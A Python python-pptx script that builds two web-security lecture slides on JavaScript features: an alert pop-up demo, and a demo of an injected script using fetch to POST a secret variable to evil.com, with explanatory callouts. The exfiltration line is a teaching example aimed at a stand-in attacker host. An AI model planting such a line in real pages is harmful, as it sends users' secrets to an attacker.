

from dataclasses import dataclass

from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml import ns
from pptx.slide import Slide
from pptx.util import Inches, Pt

BLACK, WHITE, GREEN = "000000", "FFFFFF", "00B050"
GRAY, PANEL, POPUP, BUTTON = "595959", "EEEEEE", "B7B7B7", "CCCCCC"
CALLOUT, ARROW = "FFAB40", "E69138"
SANS, MONO = "Arial", "Courier New"
LEFT, CENTER, RIGHT = text.PP_ALIGN.LEFT, text.PP_ALIGN.CENTER, text.PP_ALIGN.RIGHT
TOP, MIDDLE = text.MSO_ANCHOR.TOP, text.MSO_ANCHOR.MIDDLE
RECTANGLE = shapes.MSO_SHAPE.RECTANGLE
ROUNDED = shapes.MSO_SHAPE.ROUNDED_RECTANGLE
CALLOUT_HEIGHT = 0.91


@dataclass(frozen=True)
class Box:
    left: float
    top: float
    width: float
    height: float

    def lengths(self) -> list:
        return [Inches(side) for side in (self.left, self.top, self.width, self.height)]


@dataclass(frozen=True)
class Style:
    size: float = 14
    color: str = BLACK
    font: str = SANS
    bold: bool = False
    align: text.PP_ALIGN = CENTER
    anchor: text.MSO_ANCHOR = TOP
    top_inset: float = 0.1
    gap: float = 0


LABEL = Style()
LABEL_MIDDLE = Style(anchor=MIDDLE)
TITLE = Style(size=25.2, align=LEFT)
BULLET = Style(size=18, align=LEFT)
COURSE = Style(size=12, color=WHITE, bold=True, align=LEFT, anchor=MIDDLE)
NUMBER = Style(size=10, color=GRAY, align=RIGHT, anchor=MIDDLE)
CODE = Style(size=12, font=MONO, bold=True, align=LEFT, anchor=MIDDLE, gap=14)
POPUP_TEXT = Style(top_inset=0.06)


@dataclass(frozen=True)
class Callout:
    """A note whose arrow runs from start to end, both (x, y) in inches."""
    left: float
    top: float
    width: float
    message: str
    start: tuple[float, float]
    end: tuple[float, float]


def rgb(color: str) -> RGBColor:
    return RGBColor.from_string(color)


def write(shape, lines: list[str], style: Style) -> None:
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = style.anchor
    frame.margin_left = frame.margin_right = frame.margin_bottom = Inches(0.1)
    frame.margin_top = Inches(style.top_inset)
    frame.text = "\n".join(lines)
    for index, paragraph in enumerate(frame.paragraphs):
        paragraph.alignment = style.align
        if index and style.gap:
            paragraph.space_before = Pt(style.gap)
        for run in paragraph.runs:
            run.font.name = style.font
            run.font.size = Pt(style.size)
            run.font.bold = style.bold
            run.font.color.rgb = rgb(style.color)


def add_text(slide: Slide, box: Box, line: str, style: Style = LABEL):
    shape = slide.shapes.add_textbox(*box.lengths())
    write(shape, [line], style)
    return shape


def add_panel(slide: Slide, box: Box, fill: str, lines: list[str] | None = None,
              style: Style = LABEL, line: str | None = GRAY,
              line_width: float = 0.75, kind=RECTANGLE) -> None:
    shape = slide.shapes.add_shape(kind, *box.lengths())
    shape.shadow.inherit = False
    shape.fill.solid()
    shape.fill.fore_color.rgb = rgb(fill)
    if line:
        shape.line.color.rgb = rgb(line)
        shape.line.width = Pt(line_width)
    else:
        shape.line.fill.background()
    if lines:
        write(shape, lines, style)


def add_bullet(slide: Slide, line: str) -> None:
    shape = add_text(slide, Box(0.22, 1.36, 9.32, 0.63), line, BULLET)
    paragraph = shape.text_frame.paragraphs[0]
    paragraph.line_spacing = 1.15
    properties = paragraph._p.get_or_add_pPr()
    properties.set("marL", str(Inches(0.5)))
    properties.set("indent", str(Inches(-0.38)))
    color = etree.SubElement(properties, ns.qn("a:buClr"))
    etree.SubElement(color, ns.qn("a:srgbClr")).set("val", BLACK)
    etree.SubElement(properties, ns.qn("a:buSzPts")).set("val", str(BULLET.size * 100))
    etree.SubElement(properties, ns.qn("a:buChar")).set("char", "●")
    paragraph.font.size = Pt(BULLET.size)


def add_arrow(slide: Slide, start: tuple[float, float], end: tuple[float, float]) -> None:
    points = [Inches(value) for value in (*start, *end)]
    arrow = slide.shapes.add_connector(shapes.MSO_CONNECTOR.STRAIGHT, *points)
    arrow.line.color.rgb = rgb(ARROW)
    arrow.line.width = Pt(1.5)
    etree.SubElement(arrow.line._get_or_add_ln(), ns.qn("a:tailEnd")).set("type", "triangle")
    etree.SubElement(arrow._element.spPr, ns.qn("a:effectLst"))


def add_callout(slide: Slide, callout: Callout) -> None:
    add_arrow(slide, callout.start, callout.end)
    box = Box(callout.left, callout.top, callout.width, CALLOUT_HEIGHT)
    add_panel(slide, box, CALLOUT, [callout.message], line=BLACK, line_width=1.5)


def add_base_slide(presentation, number: int, bullet: str) -> Slide:
    """Add a slide with the shared title, course band and page number."""
    slide = presentation.slides.add_slide(presentation.slide_layouts[6])
    add_panel(slide, Box(0, 0.96, 10, 0.3), GREEN, ["ITIS 6200 / 8200"], COURSE, line=None)
    add_text(slide, Box(0.11, 0.3, 9.32, 0.63), "Features of JavaScript", TITLE)
    add_bullet(slide, bullet)
    add_text(slide, Box(9.27, 5.1, 0.6, 0.43), str(number), NUMBER)
    return slide


def build_popup_slide(presentation) -> None:
    slide = add_base_slide(presentation, 42, "Create a pop-up message")
    add_panel(slide, Box(0.63, 2.31, 4.53, 0.75), PANEL,
              ['<script>alert("Happy Birthday!")</script>'], CODE)
    add_text(slide, Box(0.64, 1.93, 4.13, 0.44), "HTML (with embedded JavaScript)")
    add_panel(slide, Box(0.64, 3.66, 4.43, 1.76), PANEL)
    add_text(slide, Box(0.65, 3.28, 4.12, 0.44), "Webpage")
    add_panel(slide, Box(1.84, 4.13, 1.73, 0.82), POPUP, ["Happy Birthday!"], POPUP_TEXT)
    add_panel(slide, Box(2.41, 4.49, 0.6, 0.36), BUTTON, ["OK"], LABEL_MIDDLE, kind=ROUNDED)
    add_callout(slide, Callout(
        5.77, 4.04, 3.43,
        "When the browser loads this HTML, it will run the embedded JavaScript "
        "and cause a pop-up to appear.",
        (5.77, 4.49), (3.62, 4.49)))


def build_request_slide(presentation) -> None:
    slide = add_base_slide(presentation, 43, "Make HTTP requests")
    add_panel(slide, Box(0.5, 2.36, 8.28, 1.21), PANEL, [
        "<script>int secret = 42;</script>",
        "...",
        "<script>fetch('https://evil.com/receive',{method:'POST', body: secret})</script>",
    ], CODE)
    add_text(slide, Box(0.5, 1.99, 8.28, 0.44), "HTML (with embedded JavaScript)")
    callouts = [
        Callout(4.35, 4.11, 4.25,
                "If the attacker somehow adds this JavaScript, the browser will send "
                "a POST request to the attacker’s server with the secret.",
                (5.59, 4.49), (5.59, 3.52)),
        Callout(0.77, 4.11, 2.62,
                "Suppose the server returns some HTML with a secret JavaScript variable.",
                (1.93, 4.6), (1.93, 2.76)),
    ]
    for callout in callouts:
        add_callout(slide, callout)


def main() -> None:
    presentation = Presentation()
    presentation.slide_width = Inches(10)
    presentation.slide_height = Inches(10) * 9 // 16
    build_popup_slide(presentation)
    build_request_slide(presentation)
    presentation.save("out.pptx")


if __name__ == "__main__":
    main()
